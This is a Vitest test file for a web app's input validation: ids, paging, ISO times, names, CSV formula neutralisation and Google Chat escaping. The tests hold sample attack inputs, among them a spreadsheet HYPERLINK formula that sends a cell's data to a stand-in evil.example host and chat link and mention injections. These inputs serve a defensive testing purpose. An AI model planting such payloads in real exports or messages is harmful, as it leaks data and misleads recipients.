import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { neutraliseFormula, neutraliseRow } from '../../shared/domain/csv'
import { calendarDateSchema, idSchema, nameSchema, pagingSchema, timeSchema } from '../../shared/domain/fields'
import { escapeChatText } from '../../shared/utils/format'
import { renderDailyReminder } from '../../server/utils/mail-templates'

describe('ids and whole numbers', () => {
  it('takes decimal digits, as a JSON number or a string', () => {
    expect(idSchema.parse(12)).toBe(12)
    expect(idSchema.parse('12')).toBe(12)
  })

  it('refuses other bases, notations, signs and types rather than reading them as a number', () => {
    for (const value of ['0x1', '1e0', '+1', '-1', '1.0', ' 1', '', '0', 0, -3, 1.5, true, [1], null, {}, Number.MAX_SAFE_INTEGER + 2, '99999999999999999']) {
      expect(idSchema.safeParse(value).success, JSON.stringify(value)).toBe(false)
    }
  })

  it('pages from 1 and 1–100 per page, 20 by default', () => {
    expect(pagingSchema.parse({})).toEqual({ page: 1, pageSize: 20 })
    expect(pagingSchema.parse({ page: '3', pageSize: '100' })).toEqual({ page: 3, pageSize: 100 })
    for (const pageSize of ['1e2', '0x10', '101', '0']) expect(pagingSchema.safeParse({ pageSize }).success, pageSize).toBe(false)
  })
})

describe('times', () => {
  it('reads an ISO time with its zone', () => {
    expect(timeSchema.parse('2027-03-01T10:00:00+05:30').toISOString()).toBe('2027-03-01T04:30:00.000Z')
    expect(timeSchema.parse('2028-02-29T23:59:59.999Z').toISOString()).toBe('2028-02-29T23:59:59.999Z')
    expect(timeSchema.parse('2100-12-31T10:00:00Z').getUTCFullYear()).toBe(2100)
  })

  it('refuses impossible dates, times without a zone and years past 2100', () => {
    for (const value of ['2027-02-30T10:00:00Z', '2027-02-29T10:00:00Z', '2027-04-31T10:00:00Z', '2027-03-01T24:00:00Z', '2027-03-01T10:00:00', '2027-03-01',
      '9999-01-01T00:00:00Z', '2101-01-01T00:00:00Z', '2100-12-31T23:00:00-05:00', '+275760-09-13T00:00:00.000Z', 1_900_000_000_000, 'tomorrow']) {
      expect(timeSchema.safeParse(value).success, String(value)).toBe(false)
    }
  })

  it('takes real calendar days only', () => {
    expect(calendarDateSchema.parse('2028-02-29')).toBe('2028-02-29')
    for (const value of ['2027-02-29', '2027-13-01', '2027-1-1', '2101-01-01']) expect(calendarDateSchema.safeParse(value).success, value).toBe(false)
  })
})

describe('names', () => {
  it('refuses NUL, control and text-direction characters, keeps the rest of Unicode', () => {
    expect(nameSchema.parse('  Zoë O\'Brien-Nair  ')).toBe('Zoë O\'Brien-Nair')
    expect(nameSchema.parse('अनन्या شريف')).toBe('अनन्या شريف')
    for (const value of ['Eve\u0000', 'a\u202Eb', 'a\u2066b', 'a\u200Fb', 'tab\there', 'line\nbreak', 'bell\u0007', 'c1\u0085']) {
      expect(nameSchema.safeParse(value).success, JSON.stringify(value)).toBe(false)
    }
  })
})

describe('CSV formula neutralisation', () => {
  it('prefixes any cell starting with = + - @ tab or CR, whatever follows, line breaks included', () => {
    const remarks = '=HYPERLINK("http://evil.example/?d="&E2,"Invoice\nopen")'
    for (const cell of [remarks, '+1\n2', '-2+3', '@SUM(A1)\r\nx', '\t=1', '\r=1']) expect(neutraliseFormula(cell)).toBe(`'${cell}`)
    for (const cell of ['Plain text', ' =1', 'a=b', '']) expect(neutraliseFormula(cell)).toBe(cell)
  })

  it('leaves numbers alone and survives the CSV round trip', () => {
    const row = neutraliseRow([-5, '=1+1\nx', null, 'ok'])
    expect(row).toEqual([-5, '\'=1+1\nx', null, 'ok'])
    const csv = Papa.unparse([row], { newline: '\r\n' })
    expect(Papa.parse<string[]>(csv).data[0]![1]).toBe('\'=1+1\nx')
  })
})

describe('Google Chat text', () => {
  it('escapes < > & so a name cannot write links or mentions', () => {
    expect(escapeChatText('<https://evil.example|Pay here> & <users/all>')).toBe('&lt;https://evil.example|Pay here&gt; &amp; &lt;users/all&gt;')
  })

  it('keeps a professional\'s name and a service name from injecting markup into the daily reminder', () => {
    const recipient = { id: 1, name: '<https://evil.example|Click>', email: 'pro@example.com', requests: [{ id: 7, serviceName: 'Fix <users/all>', pincode: '560001', scheduledFor: new Date('2027-01-01T10:00:00Z'), named: false }] }
    const { chatText } = renderDailyReminder(recipient, 'https://app.example')
    expect(chatText).not.toMatch(/<https:\/\/evil|<users\/all>/)
    expect(chatText).toContain('&lt;https://evil.example|Click&gt;')
    expect(chatText).toContain('Fix &lt;users/all&gt;')
  })
})
